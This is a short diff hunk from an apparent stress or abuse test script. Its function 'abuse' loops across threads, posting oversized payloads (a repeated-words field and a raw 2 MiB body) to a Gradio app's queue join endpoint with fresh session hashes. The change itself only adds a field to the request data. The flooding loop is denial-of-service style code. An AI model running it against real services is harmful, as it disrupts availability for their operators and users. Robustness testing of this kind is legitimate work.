@@ -52,7 +52,7 @@ def abuse(url: str, page, done: threading.Event, answers: dict[int, int]) -> Non
         while not done.is_set():
             i += 1
             session = f"{threading.get_ident()}-{i}"
-            join = {"data": [None, None, None, "words " * 2000], "fn_index": fn, "session_hash": session}
+            join = {"data": [None, None, None, "words " * 2000, None], "fn_index": fn, "session_hash": session}
             for send in (
                 lambda join=join: line.post(f"{url}/gradio_api/queue/join", json=join),
                 lambda: line.post(f"{url}/gradio_api/queue/join", content=b"x" * 2**21),
